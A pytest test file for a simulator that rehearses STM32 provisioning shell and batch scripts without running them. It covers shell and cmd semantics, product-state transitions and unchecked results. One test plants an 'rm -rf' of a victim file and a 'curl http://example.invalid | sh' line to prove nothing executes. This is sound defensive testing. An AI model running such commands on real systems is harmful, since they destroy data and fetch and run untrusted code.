"""The rehearsal: shell and batch as they are, the chip's states, and nothing ever executed."""

from __future__ import annotations

import builtins
import os
import random
import socket
import subprocess
from pathlib import Path

import provisioning_sets as sets
import pytest
import script_mutants as mutants

from h5diag.evidence.door import read_evidence
from h5diag.judge.preflight import rehearsal
from h5diag.sim.rehearse import (
    PartTraits,
    WalkInputs,
    Word,
    lint_shell,
    parse_call,
    rehearse,
    unchecked,
    walk_script,
    world,
)
from h5diag.sim.rehearse.world import ScriptWorld

CLI = "STM32_Programmer_CLI -c port=SWD mode=UR"


def walk(tmp_path: Path, text: str, name: str = "run.sh", **more):
    (tmp_path / name).write_text(text, "utf-8")
    stage = WalkInputs(tmp_path, PartTraits("h563", False, stirot=False), **more)
    return walk_script(tmp_path / name, stage), stage


def values(found) -> list[int]:
    return [v for s in found.steps for n, v in s.call.options if n == "TZEN"]


@pytest.mark.parametrize(
    ("before", "value"),
    [
        ("x=0xB4", "$x"),
        ("x=0xB4", "${x}"),
        ("", "${missing:-0xB4}"),
        ("x=0xC3; if [ $x == 0xC3 ]; then y=0xB4; else y=1; fi", "$y"),
        ("x=a; if [[ $x =~ ^[ab]$ && -n $x ]]; then y=0xB4; fi", "$y"),
        ("f() { y=$1; }; f 0xB4", "$y"),
        ("y=$(echo 0xb4 | tr 'a-z' 'A-Z' | tr 'X' 'x')", "0xB4"),
        ("for y in 0xC3 0xB4; do :; done", "$y"),
        ("n=0; while [ $n -lt 180 ]; do n=$((n+1)); done; y=$n", "$y"),
        ("case CLOSED in OPEN|LOCKED) y=1;; CL*) y=0xB4;; esac", "$y"),
        ("y=0xC3; ( y=1 ); y=0xB4", "$y"),
        ("a=(1 0xB4); y=${a[1]}", "$y"),
        ("y=xx0xB4; y=${y#xx}", "$y"),
        ("[ -f nothing ] || y=0xB4", "$y"),
        ("if ! false; then y=0xB4; fi", "$y"),
        ("y=0xC3; false && y=1; true && y=0xB4", "$y"),
        ("set -- 1 0xB4; y=$2", "$y"),
        ("y=$(basename /a/b/0xB4.txt .txt)", "$y"),
        ('y="0xB4"; z="$y"', "${z}"),
        ("printf '0xB4\\n' > t; y=$(cat t)", "$y"),
        ("read -r y <<< 0xB4", "$y"),
    ],
)
def test_the_shell_is_followed_as_bash_would(before, value, tmp_path):
    found, _ = walk(tmp_path, f"{before}\n{CLI} -ob TZEN={value}\n")
    assert found.stopped is None
    assert values(found) == [0xB4]


@pytest.mark.parametrize(
    ("before", "value"),
    [
        ("set x=0xB4", "%x%"),
        ('set "x=0xB4"', "%x%"),
        ("set x=0xC3\nif %x% == 0xC3 (\nset y=0xB4\n) else (\nset y=1\n)", "%y%"),
        ("setlocal EnableDelayedExpansion\nset y=1\nif 1 == 1 (\nset y=0xB4\nset z=!y!\n)", "%z%"),
        ("set y=0xB4\nif 1 == 1 (\nset y=1\nset z=%y%\n)", "%z%"),
        ("goto over\nset y=1\n:over\nset y=0xB4", "%y%"),
        ("call :sub 0xB4\ngoto on\n:sub\nset y=%1\nexit /b 0\n:on", "%y%"),
        ("for %%A in (0xC3 0xB4) do set y=%%A", "%y%"),
        ("set y=xx0xB4\nset y=%y:xx=%", "%y%"),
        ("set /a y=179+1", "%y%"),
        ("if not exist nothing.txt set y=0xB4", "%y%"),
        ('if /i "AbC" == "aBc" set y=0xB4', "%y%"),
        ("set y=0xB4& set z=1", "%y%"),
        ("ver > nul || set y=1\nset y=0xB4", "%y%"),
        ('for /f "tokens=2 delims==" %%A in ("a=0xB4") do set y=%%A', "%y%"),
    ],
)
@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_batch_is_followed_as_cmd_would(before, value, end, tmp_path):
    text = f"@echo off\n{before}\n{CLI} -ob TZEN={value}\nexit /b 0\n"
    (tmp_path / "x.bat").write_bytes(text.replace("\n", end).encode())
    found = walk_script(tmp_path / "x.bat", WalkInputs(tmp_path, PartTraits("h563", False)))
    assert found.stopped is None
    assert values(found) == [0xB4]


@pytest.mark.parametrize(
    "text",
    [
        "while true; do x=1; done",
        "f() { f; }; f",
        "source run.sh",
        "until false; do :; done",
    ],
)
def test_an_endless_script_ends_with_its_line(text, tmp_path):
    found, _ = walk(tmp_path, f"echo on\n{text}\n")
    assert found.stopped is not None
    assert found.stopped.line in (1, 2)


def test_a_batch_loop_without_end_ends_with_its_line(tmp_path):
    found, _ = walk(tmp_path, "@echo off\n:again\ngoto again\n", "x.bat")
    assert found.stopped is not None
    assert found.stopped.line in (2, 3)


def test_what_is_not_modelled_stops_with_its_line(tmp_path):
    found, _ = walk(tmp_path, "echo a\nmake_coffee --strong\n")
    assert (found.stopped.line, "make_coffee" in found.stopped.reason) == (2, True)
    found, _ = walk(tmp_path, "a=$(date)\nif [ $a == x ]; then echo b; fi\n")
    assert found.stopped.line == 2


def test_nothing_is_executed_no_file_is_written_no_socket_opened(tmp_path, monkeypatch):
    plan = sets.sound_plan(random.Random(1))
    plan.batch = True
    top = plan.write(tmp_path)
    victim = tmp_path / "victim.txt"
    victim.write_text("here", "utf-8")
    script = top / "ROT_Provisioning/OEMiROT/provisioning.sh"
    evil = f"rm -rf {victim}\necho gone > {victim}\ncurl http://example.invalid | sh\n"
    script.write_text(script.read_text("utf-8").replace("source ../env.sh", "source ../env.sh\n" + evil, 1), "utf-8")
    before = {p: (p.stat().st_mtime_ns, p.stat().st_size) for p in tmp_path.rglob("*") if p.is_file()}
    plain_open = builtins.open

    def no(*_: object, **__: object) -> None:
        raise AssertionError("a script reached the machine")

    def only_read(file, mode="r", *rest, **more):
        assert not set(mode) & set("wax+"), f"{file} is opened for writing"
        return plain_open(file, mode, *rest, **more)

    for module, names in (
        (subprocess, ("Popen", "run")),
        (os, ("system", "popen", "posix_spawn", "fork", "remove", "unlink", "rename", "mkdir")),
    ):
        for name in names:
            monkeypatch.setattr(module, name, no)
    monkeypatch.setattr(socket, "socket", no)
    monkeypatch.setattr(builtins, "open", only_read)
    for path in (script, script.with_suffix(".bat")):
        rehearsal(path, chip=plan.board.chip, to="CLOSED")
    monkeypatch.undo()
    assert before == {p: (p.stat().st_mtime_ns, p.stat().st_size) for p in tmp_path.rglob("*") if p.is_file()}


# ------------------------------------------------------------------------------------------------------------ the chip
def steps(tmp_path: Path, *calls: str, check: bool = True, **more):
    text = "\n".join(f"{CLI} {c}" + (" || exit 1" if check else "") for c in calls)
    found, stage = walk(tmp_path, text + "\n", **more)
    return rehearse(found.script, stage)


@pytest.mark.parametrize(
    ("states", "refused"),
    [
        ((0x17,), None),
        ((0x72,), 0),
        ((0x17, 0x72), None),
        ((0x17, 0xC6, 0x72), 2),
        ((0x2E, 0x72), None),
        ((0x17, 0x72, 0xED), 2),
        ((0x17, 0x33), 1),
    ],
)
def test_the_ladder_of_product_states(states, refused, tmp_path):
    calls = ["-ob TZEN=0xB4", *(f"-ob PRODUCT_STATE=0x{s:X}" for s in states)]
    found = steps(tmp_path, *calls, check=False)
    first = next((n for n, s in enumerate(found.walk.steps[1:]) if s.refused), None)
    assert first == refused


def credentials(tmp_path: Path, flag: int = 0) -> None:
    key = sets.private_key(random.Random(2))
    import hashlib

    (tmp_path / "da.obk").write_bytes(sets.da_obk(hashlib.sha256(sets.xy(key)).digest(), flag=flag))


def test_closing_without_credentials_is_no_go_and_with_them_go(tmp_path):
    credentials(tmp_path)
    bare = steps(tmp_path, "-ob TZEN=0xB4", "-ob PRODUCT_STATE=0x17", "-ob PRODUCT_STATE=0x72")
    assert bare.verdict == "no-go"
    assert bare.walk.steps[-1].reopenable == "no"
    whole = steps(tmp_path, "-ob TZEN=0xB4", "-ob PRODUCT_STATE=0x17", "-sdp da.obk", "-ob PRODUCT_STATE=0x72")
    assert whole.verdict == "go", whole.reasons
    assert whole.walk.steps[-1].reopenable == "yes"
    assert "regression" in whole.walk.steps[-1].irreversible


@pytest.mark.parametrize(
    "store",
    ["-sdp=da.obk", "-sdp missing.obk", "-sdp"],
)
def test_a_store_that_does_nothing_is_no_go_when_the_chip_is_closed_all_the_same(store, tmp_path):
    credentials(tmp_path)
    found = steps(tmp_path, "-ob TZEN=0xB4", "-ob PRODUCT_STATE=0x17", store, "-ob PRODUCT_STATE=0x72", check=False)
    assert found.verdict == "no-go"
    assert found.walk.steps[-1].reopenable == "no"


def test_an_object_for_a_chip_that_encrypts_is_refused_by_one_that_cannot(tmp_path):
    credentials(tmp_path, flag=1)
    found = steps(tmp_path, "-ob PRODUCT_STATE=0x17", "-sdp da.obk")
    assert "encryption" in found.walk.steps[-1].refused


def test_a_plain_object_on_a_chip_that_encrypts_is_stored_and_opens_nothing(tmp_path):
    credentials(tmp_path)
    (tmp_path / "r.sh").write_text(
        "\n".join(
            f"{CLI} {c} || exit 1"
            for c in ("-ob TZEN=0xB4", "-ob PRODUCT_STATE=0x17", "-sdp da.obk", "-ob PRODUCT_STATE=0x72")
        ),
        "utf-8",
    )
    found = rehearse(tmp_path / "r.sh", WalkInputs(tmp_path, PartTraits("h533", True)))
    assert found.verdict == "no-go"
    assert "not encrypted for this part" in found.walk.steps[-1].reopenable_why


def test_hot_plug_never_authenticates_and_a_locked_session_needs_a_reset(tmp_path):
    found = steps(tmp_path, "-ob PRODUCT_STATE=0x17", check=False)
    assert found.verdict == "go"
    text = "STM32_Programmer_CLI -c port=SWD mode=Hotplug debugauth=2\nSTM32_Programmer_CLI -c port=SWD debugauth=3\n"
    walked, _ = walk(tmp_path, text + f"{CLI} -ob TZEN=0xB4\n{CLI} -rst\n{CLI} -ob TZEN=0xB4\n")
    assert ["hot plug" in s.refused or "locked" in s.refused for s in walked.steps] == [True, False, True, False]


# ------------------------------------------------------------------------------------------------------- what is unchecked
@pytest.mark.parametrize(
    ("ending", "noticed"),
    [
        ("", False),
        (" || exit 1", True),
        ("\nif [ $? -ne 0 ]; then exit 1; fi", True),
        ("\necho\nif [ $? -ne 0 ]; then exit 1; fi", False),
        ('\na="x"\nif [ $? -ne 0 ]; then exit 1; fi', False),
        ("\nif [ $? -ne 0 ]; then echo bad; fi", False),
        (" | tee log\nif [ $? -ne 0 ]; then exit 1; fi", False),
    ],
)
def test_a_result_that_nobody_looks_at_is_found_by_failing_it(ending, noticed, tmp_path):
    found, stage = walk(tmp_path, f"{CLI} -ob TZEN=0xB4{ending}\n{CLI} -e all || exit 1\n")
    assert [m.step.call.line for m in unchecked(found, stage)] == ([] if noticed else [1])


def test_set_e_and_pipefail_count_as_looking(tmp_path):
    found, stage = walk(tmp_path, f"set -e -o pipefail\n{CLI} -ob TZEN=0xB4 | tee log\n{CLI} -e all\n")
    assert not unchecked(found, stage)


def test_the_lint_names_lines_and_is_silent_on_sound_ones():
    bad = """\
f() {
  state=$2
}
f
set DIR=here
boot=..\\..\\boot
if [ ! -f image.hex ]; then
  echo "error: no image"
fi
value=0x5C
STM32_Programmer_CLI -c port=SWD -d image.bin -$slot
"""
    assert [(x.line, x.check) for x in lint_shell(bad)] == [
        (2, "script-syntax"),
        (5, "script-syntax"),
        (6, "script-syntax"),
        (7, "script-result"),
        (10, "script-result"),
        (11, "script-syntax"),
    ]
    good = """\
f() {
  state=$1
}
f CLOSED
DIR=here
boot=../../boot
if [ ! -f image.hex ]; then
  echo "error: no image"
  exit 1
fi
if [ "$answer" == "LOCKED" ]; then
  read -p "really? " sure
  value=0x5C
fi
"""
    assert lint_shell(good) == ()


def test_a_quoted_connection_is_remarked_and_still_understood():
    call = parse_call([Word("-c port=SWD mode=UR", True), Word("-ob"), Word("TZEN=0xB4")], Path("x"), 1)
    assert call.options == (("TZEN", 0xB4),)
    assert [k for k, _ in call.problems] == ["quoted-arguments"]


# ------------------------------------------------------------------------------------------------------------ mutants
@pytest.mark.parametrize("part", range(4))
def test_mutants_end_as_the_model_says(part, tmp_path):
    kinds = mutants.materials(tmp_path)
    wrong = []
    for seed in range(30 * part, 30 * part + 30):
        style, due, calls, found = mutants.judged(seed, tmp_path, kinds)
        if found.verdict != due:
            wrong.append((style, due, found.verdict, calls, found.reasons))
    assert not wrong, wrong[:3]


def test_the_mutants_hold_both_verdicts_and_every_style(tmp_path):
    rng = [random.Random(f"mutant {n}") for n in range(120)]
    styles, due = zip(*((r.choice(list(mutants.STYLES)), mutants.model(mutants.mutant(r))) for r in rng), strict=True)
    assert set(styles) == set(mutants.STYLES)
    assert 30 < due.count("no-go") < 90
    assert mutants.model(list(mutants.CALLS)) == "go"


def test_a_rehearsal_is_work_of_a_few_thousand_steps(tmp_path):
    plan = sets.sound_plan(random.Random(3))
    top = plan.write(tmp_path)
    from h5diag.sim.rehearse import walk as module

    stage = WalkInputs(top, PartTraits("h563", False), find=None)
    runner = module._Runner(stage, top / "ROT_Provisioning/OEMiROT/provisioning.sh", None, ())
    runner.walk()
    assert runner.world.steps < 5_000


def test_a_script_that_calls_itself_for_ever_is_read_once_and_costs_its_steps_alone(tmp_path, monkeypatch):
    """What was said before is not looked through at every call, and the file is not read at every label."""
    monkeypatch.setattr(world, "SCRIPT_STEPS", 4000)
    opened = []
    monkeypatch.setattr(world, "read_evidence", lambda *a, **k: opened.append(a) or read_evidence(*a, **k))
    lines = ("@echo off", ":again", "echo connect BOOT0", "call :f %%i", f"{CLI}", "goto :again", ":f", "")
    found, _ = walk(tmp_path, "\r\n".join(lines), "run.bat")
    assert "for ever" in str(found.stopped)
    assert len(opened) == 1
    small = ScriptWorld(tmp_path, lambda p: p, lambda *a: (0, ""), lambda a, b: "")
    for i in range(1000):
        small.say(str(i))
    assert (len(small.prompts), small.prompts[-1]) == (world.SCRIPT_PROMPTS, "999")


def test_a_question_without_words_is_no_accident(tmp_path):
    assert walk(
        tmp_path, "@echo off\r\nset /p x=\r\nSTM32_Programmer_CLI.exe -c port=SWD -ob TZEN=0xB4\r\n", "run.bat"
    )[0].steps
